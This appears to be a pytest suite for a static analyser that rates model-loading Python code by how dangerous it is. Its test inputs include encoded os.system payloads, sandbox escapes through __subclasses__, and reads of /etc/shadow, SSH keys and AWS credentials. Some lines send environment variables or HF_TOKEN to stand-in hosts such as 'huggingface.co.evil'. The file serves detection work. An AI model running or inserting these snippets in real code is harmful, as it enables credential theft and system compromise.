"""What loading source does: every entry, every kind of effect, on import and in an entry, with what is harmless beside it."""

import base64
import bz2
import codecs
import gzip
import lzma
import zlib

import pytest

from modelward.artifact.around.python import payload
from modelward.artifact.around.source import analyse


def level(text):
    return analyse(text).level


def inside(text, name="forward"):
    """The same in a function that a loader calls."""
    *imports, last = text.split("\n")
    return "\n".join([*imports, f"class M:\n    def {name}(self, x):\n        {last}"])


# --- entries ------------------------------------------------------------------------------------------------


@pytest.mark.parametrize("name", sorted(payload.ENTRIES))
def test_each_entry_is_called_by_a_loader(name):
    for text in (
        f"def {name}(*a):\n    import os\n    os.system('id')",
        f"class M:\n    def {name}(self):\n        import os\n        os.system('id')",
    ):
        (effect,) = analyse(text).payload
        assert effect.level == "dangerous"
        assert effect.entry.endswith(name)


@pytest.mark.parametrize("name", ["helper", "save", "__str__", "train", "test_it", "Forward", "inits"])
def test_other_functions_are_not(name):
    assert level(f"import os\ndef {name}():\n    os.system('id')") == ""


REACHED = [
    ("def f():\n    os.system('id')\nf()", ""),
    ("def f():\n    os.system('id')\ng = f\ng()", ""),
    ("def f():\n    os.system('id')\nregister(f)", ""),
    ("@f\ndef g(): ...\ndef f():\n    os.system('id')", None),
    ("def f():\n    os.system('id')\n@f\ndef g(): ...", ""),
    (
        "class A:\n    def __init__(self):\n        self.go()\n    def go(self):\n        os.system('id')\nA()",
        "",
    ),
    ("class A:\n    def go(self):\n        os.system('id')\nA().go()", ""),
    ("class A:\n    def go(self):\n        os.system('id')\na = A()\na.go()", ""),
    ("class A:\n    def go(self):\n        os.system('id')\nA.go(None)", ""),
    ("class A:\n    def go(self):\n        os.system('id')\na = A()\na.stay()", None),
    ("class A:\n    def __call__(self):\n        os.system('id')\nA()", ""),
    ("class A:\n    def __new__(cls):\n        os.system('id')\nA()", ""),
    ("class A:\n    class B:\n        def forward(self):\n            os.system('id')", "A.B.forward"),
    ("def handle(d, c):\n    def inner():\n        os.system('id')\n    inner()", "handle"),
    ("def handle(d, c):\n    return helper(d)\ndef helper(d):\n    os.system('id')", "handle"),
    ("def handle(d, c):\n    def inner():\n        os.system('id')\n    return d", None),
    ("def a():\n    b()\ndef b():\n    a()\n    os.system('id')\na()", ""),
    ("def a():\n    os.system('id')\nif __name__ == '__main__':\n    a()", None),
    ("if __name__ != '__main__':\n    os.system('id')", ""),
    ("if not __name__ == '__main__':\n    pass\nelse:\n    os.system('id')", ""),
    ("if __name__ == '__main__':\n    pass\nelse:\n    os.system('id')", ""),
    ("f = lambda: os.system('id')", ""),
    ("x = [lambda: os.system('id')]", ""),
    ("class A:\n    go = staticmethod(os.system)\nA.go('id')", None),
]


@pytest.mark.parametrize(("text", "entry"), REACHED)
def test_what_reaches_a_payload(text, entry):
    found = [
        effect for effect in analyse("import os\n" + text).payload if effect.message == "a program is run"
    ]
    assert [effect.entry for effect in found] == ([] if entry is None else [entry])


# --- text that is run ---------------------------------------------------------------------------------------

EVIL = b"import os; os.system('id')"


def packed(function, argument):
    return f"import base64, binascii, bz2, codecs, gzip, lzma, zlib\nexec({function}({argument!r}))"


ENCODED = [
    ("base64.b64decode", base64.b64encode(EVIL)),
    ("base64.urlsafe_b64decode", base64.urlsafe_b64encode(EVIL)),
    ("base64.standard_b64decode", base64.b64encode(EVIL)),
    ("base64.decodebytes", base64.encodebytes(EVIL)),
    ("base64.b16decode", base64.b16encode(EVIL)),
    ("base64.b32decode", base64.b32encode(EVIL)),
    ("base64.b85decode", base64.b85encode(EVIL)),
    ("base64.a85decode", base64.a85encode(EVIL)),
    ("binascii.unhexlify", EVIL.hex()),
    ("binascii.a2b_hex", EVIL.hex()),
    ("binascii.a2b_base64", base64.b64encode(EVIL)),
    ("bytes.fromhex", EVIL.hex(" ")),
    ("bytearray.fromhex", EVIL.hex()),
    ("zlib.decompress", zlib.compress(EVIL)),
    ("gzip.decompress", gzip.compress(EVIL)),
    ("bz2.decompress", bz2.compress(EVIL)),
    ("lzma.decompress", lzma.compress(EVIL)),
]


@pytest.mark.parametrize(("function", "argument"), ENCODED)
def test_text_hidden_by_each_encoding_is_dangerous(function, argument):
    assert level(packed(function, argument)) == "dangerous"
    assert level(packed(function, argument).replace("exec(", "eval(")) == "dangerous"
    assert level(packed(function, argument).replace("exec(", "json.loads(")) == ""


@pytest.mark.parametrize(
    ("function", "argument"),
    [
        row
        for row in ENCODED
        if row[0] not in {"base64.b32decode", "base64.b85decode", "base64.a85decode"}
        and "z" not in row[0].split(".")[0]
    ],
)
def test_what_was_hidden_is_shown(function, argument):
    (effect,) = analyse(packed(function, argument)).payload
    assert effect.call == f"exec({EVIL!r})"


def test_rot13_and_layers_of_encodings():
    turned = codecs.encode("import os", "rot13")
    assert level(f"import codecs\nexec(codecs.decode({turned!r}, 'rot13'))") == "dangerous"
    twice = base64.b64encode(zlib.compress(EVIL))
    (effect,) = analyse(f"import base64, zlib\nexec(zlib.decompress(base64.b64decode({twice!r})))").payload
    assert effect.call == f"exec({EVIL!r})"


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("exec('import os')", ""),
        ("exec('x = 1')", ""),
        ("exec('import os\\nos.system(\"id\")')", "dangerous"),
        ("exec('f(')", "unproven"),
        ("exec(f'x = {y}')", "unproven"),
        ("exec(x)", "unproven"),
        ("exec(open('a.py').read())", "unproven"),
        ("exec('import requests; requests.get(\"http://x\")')", "unproven"),
        ('eval(\'__import__("os").popen("id")\')', "dangerous"),
        ("eval(compile(ast.parse(t), 'f', 'eval'))", "unproven"),
        ("exec(compile('import os; os.system(\"id\")', 'f', 'exec'))", "dangerous"),
        ("exec('import os; os.sy' + 'stem(\"id\")')", "dangerous"),
        ("a = 'import os;'\nexec(a + 'os.system(\"id\")')", "dangerous"),
        ("exec(\"exec('import os; os.system(1)')\")", "dangerous"),
        ("eval", ""),
    ],
)
def test_text_that_is_run(text, expected):
    assert level("import ast\n" + text) == expected


@pytest.mark.parametrize("name", sorted(payload._RUN_TEXT))
def test_each_function_that_runs_a_text(name):
    top = name.split(".", 1)[0]
    assert level(f'import {top}\n{name}(\'__import__("os").system("id")\')') == "dangerous"
    assert level(f"import {top}\n{name}('1 + 1')") == ""
    assert level(f"import {top}\n{name}(f)") == ""


@pytest.mark.parametrize("name", sorted(payload._LOADS))
def test_each_function_that_runs_other_files(name):
    text = f"import {name.split('.', 1)[0]}\n{name}('a')"
    assert level(text) == level(inside(text)) == "unproven"


@pytest.mark.parametrize("name", sorted(payload._PICKLES))
@pytest.mark.parametrize(
    ("argument", "expected"),
    [
        ("b'abc'", "dangerous"),
        ("base64.b64decode(x)", "dangerous"),
        ("requests.get(u).content", "dangerous"),
        ("raw", ""),
    ],
)
def test_each_unpickler_of_bytes(name, argument, expected):
    text = f"import base64, requests, {name.split('.', 1)[0]}\n{name}({argument})"
    if name == "marshal.loads" and argument == "raw":
        expected = "unproven"
    assert level(inside(text)) == expected


CLIMBS = [
    ("().__class__.__bases__[0].__subclasses__()", "dangerous"),
    ("''.__class__.__mro__[1].__subclasses__()[5]('x')", "dangerous"),
    ("object.__subclasses__()", "dangerous"),
    ("f.__globals__['x']()", "dangerous"),
    ("f.__globals__.get('x')()", "dangerous"),
    ("[].__class__.__base__.__subclasses__()", "dangerous"),
    ("x.__class__.__name__.lower()", ""),
    ("type(x).__mro__", ""),
    ("self.__class__.__bases__[0].__init__(self)", ""),
    ("super().__init__()", ""),
    ("Model.__subclasses__()", ""),
]


@pytest.mark.parametrize(("text", "expected"), CLIMBS)
def test_climbing_to_the_interpreter(text, expected):
    assert level(text) == expected


# --- programs, libraries, files, network --------------------------------------------------------------------


@pytest.mark.parametrize("name", sorted(payload._SHELLS))
def test_each_shell_is_dangerous(name):
    text = f"import {name.split('.', 1)[0]}\n{name}('id -u')"
    assert level(text) == level(inside(text)) == "dangerous"
    assert level(f"import {name.split('.', 1)[0]}\n{name}(x)") == "dangerous"


@pytest.mark.parametrize("name", sorted(payload._RUNNERS))
def test_each_runner_of_programs(name):
    module = name.split(".", 1)[0]
    assert level(inside(f"import {module}\n{name}('/bin/sh')")) == "dangerous"
    assert level(inside(f"import {module}\n{name}(program)")) == "unproven"
    assert level(inside(f"import {module}\n{name}('nvidia-smi')")) == ""


COMMANDS = [
    ("['nvidia-smi', '-L']", "", ""),
    ("['git', 'rev-parse', 'HEAD']", "", ""),
    ("['ffmpeg', '-i', path]", "unproven", ""),
    ("['nvidia-smi', '-i', x]", "unproven", ""),
    ("['sh', '-c', 'id']", "dangerous", "dangerous"),
    ("['/bin/bash', path]", "dangerous", "dangerous"),
    ("['powershell.exe', x]", "dangerous", "dangerous"),
    ("['make', path]", "unproven", "unproven"),
    ("['make', 'all']", "dangerous", "dangerous"),
    ("['pip', 'install', 'einops']", "unproven", "unproven"),
    ("[sys.executable, '-m', 'pip', 'install', 'x']", "unproven", "unproven"),
    ("['pip', 'install', 'https://host/x.whl']", "dangerous", "dangerous"),
    ("['pip', 'install', 'x; id']", "dangerous", "dangerous"),
    ("'uname -a; id', shell=True", "dangerous", "dangerous"),
    ("x, shell=True", "dangerous", "dangerous"),
    ("x", "unproven", "unproven"),
    ("[x, y]", "unproven", "unproven"),
    ("[chr(115) + chr(104), '-c', x]", "dangerous", "dangerous"),
    ("base64.b64decode('aWQ=')", "dangerous", "dangerous"),
    ("args=['sh', '-c', 'id']", "dangerous", "dangerous"),
]


@pytest.mark.parametrize(("arguments", "imported", "called"), COMMANDS)
def test_what_a_program_is_asked(arguments, imported, called):
    text = f"import base64, subprocess, sys\nsubprocess.run({arguments})"
    assert (level(text), level(inside(text))) == (imported, called)


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("ctypes.CDLL('libc.so.6')", "unproven"),
        ("ctypes.PyDLL(p)", "unproven"),
        ("ctypes.cdll.LoadLibrary('a.so')", "unproven"),
        ("ctypes.CDLL(requests.get(u))", "dangerous"),
        ("ctypes.CDLL(base64.b64decode(x))", "dangerous"),
        ("ctypes.CDLL(None).system('id')", "dangerous"),
        ("cffi.FFI().dlopen('a.so')", "unproven"),
        ("ctypes.CFUNCTYPE(x)(address)", "unproven"),
        ("ctypes.memmove(a, b, 4)", "unproven"),
        ("ctypes.sizeof(x)", ""),
    ],
)
def test_native_libraries(text, expected):
    text = f"import base64, cffi, ctypes, requests\n{text}"
    assert level(inside(text)) == expected


FILES = [
    ("open('x.txt')", "", ""),
    ("open('x.txt', 'w')", "unproven", ""),
    ("open('x.txt', mode='ab')", "unproven", ""),
    ("open('x.txt', 'r+')", "unproven", ""),
    ("open('/etc/hosts')", "", ""),
    ("open('/etc/shadow')", "dangerous", "dangerous"),
    ("open('/usr/x', 'w')", "dangerous", "unproven"),
    ("open('/tmp/x', 'w')", "dangerous", ""),
    ("open('../x', 'w')", "dangerous", "unproven"),
    ("open('~/.bashrc', 'a')", "dangerous", "dangerous"),
    ("open(home + '/.ssh/id_rsa')", "dangerous", "dangerous"),
    ("open(f'{home}/.aws/credentials')", "dangerous", "dangerous"),
    ("io.open('/proc/self/environ')", "dangerous", "dangerous"),
    ("codecs.open('/etc/crontab', 'a')", "dangerous", "dangerous"),
    ("open(path, 'w')", "unproven", ""),
    ("Path('a.txt').write_text('x')", "unproven", ""),
    ("Path('/usr/a').write_bytes(b'x')", "dangerous", "unproven"),
    ("(Path.home() / '.ssh' / 'x').open('w')", "dangerous", "dangerous"),
    ("Path('~/.netrc').expanduser().read_text()", "dangerous", "dangerous"),
    ("Path('a').read_text()", "", ""),
    ("os.remove('a')", "unproven", ""),
    ("os.remove('/usr/a')", "dangerous", "dangerous"),
    ("os.unlink('/tmp/a')", "unproven", ""),
    ("shutil.rmtree('out')", "unproven", ""),
    ("shutil.rmtree('~')", "dangerous", "dangerous"),
    ("shutil.rmtree(os.path.expanduser('~/x'))", "dangerous", "dangerous"),
    ("shutil.copy('a', 'b')", "", ""),
    ("shutil.copy('a', '/etc/sudoers')", "dangerous", "dangerous"),
    ("shutil.move('a', dst='x/.git/hooks/post')", "dangerous", "dangerous"),
    ("os.replace('a', 'site/usercustomize.py')", "dangerous", "dangerous"),
    ("os.chmod('a', 7)", "unproven", ""),
    ("os.kill(1, 9)", "unproven", ""),
    ("os.fork()", "unproven", ""),
    ("os.makedirs('a')", "", ""),
]


@pytest.mark.parametrize(("text", "imported", "called"), FILES)
def test_files(text, imported, called):
    text = f"import codecs, io, os, shutil; from pathlib import Path\n{text}"
    assert (level(text), level(inside(text))) == (imported, called)


NETWORK = [
    ("requests.get(u)", "unproven", ""),
    ("requests.post('http://x', data=d)", "unproven", ""),
    ("requests.post('http://x', data=os.environ)", "dangerous", "dangerous"),
    ("requests.get('http://x/' + os.getenv('API_KEY'))", "dangerous", "dangerous"),
    ("requests.get('http://x/' + os.getenv('HOME'))", "unproven", ""),
    ("requests.get('http://x', params={'h': socket.gethostname()})", "dangerous", "dangerous"),
    ("requests.get('http://x', headers={'A': os.environ['HF_TOKEN']})", "dangerous", "dangerous"),
    ("requests.get('https://huggingface.co/x', headers={'A': os.environ['HF_TOKEN']})", "unproven", ""),
    (
        "requests.get('https://huggingface.co.evil/x', headers={'A': os.environ['HF_TOKEN']})",
        "dangerous",
        "dangerous",
    ),
    ("urllib.request.urlopen('http://x/' + getpass.getuser())", "dangerous", "dangerous"),
    ("urllib.request.urlretrieve(u, 'm')", "unproven", ""),
    ("socket.create_connection(('1.2.3.4', 5))", "dangerous", "unproven"),
    ("socket.socket().connect(a)", "dangerous", "unproven"),
    ("socket.socket().sendall(b)", "unproven", ""),
    ("socket.gethostbyname(os.environ['TOKEN'] + '.evil')", "dangerous", "dangerous"),
    ("http.server.HTTPServer(a, b)", "unproven", ""),
    ("smtplib.SMTP(h).sendmail(a, b, os.getlogin())", "dangerous", "dangerous"),
    ("print(os.environ['HF_TOKEN'])", "", ""),
]


@pytest.mark.parametrize(("text", "imported", "called"), NETWORK)
def test_connections(text, imported, called):
    text = f"import getpass, http.server, os, requests, smtplib, socket, urllib.request\n{text}"
    assert (level(text), level(inside(text))) == (imported, called)


HANDED = [
    ("Thread(target=os.system)", "dangerous", "unproven"),
    ("map(eval, x)", "dangerous", "unproven"),
    ("signal.signal(2, subprocess.call)", "dangerous", "unproven"),
    ("x.hook = exec", "dangerous", "unproven"),
    ("table['run'] = os.popen", "dangerous", "unproven"),
    ("run = {'a': os.system}", "unproven", "unproven"),
    ("f(compile)", "", ""),
    ("isinstance(x, eval)", "", ""),
    ("print(os.system)", "", ""),
    ("f(os.path.join)", "", ""),
    ("resolvers.register_new_resolver('e', eval)", "unproven", "unproven"),
]


@pytest.mark.parametrize(("text", "imported", "called"), HANDED)
def test_functions_that_are_handed_on(text, imported, called):
    text = f"import os, signal, subprocess; from threading import Thread\n{text}"
    assert (level(text), level(inside(text))) == (imported, called)


def test_a_name_made_while_the_code_runs():
    assert level("import os\ngetattr(os, x)") == "unproven"
    assert level("import torch\ngetattr(torch, x)") == ""
    assert level("import os\ngetattr(os, 'path')") == ""
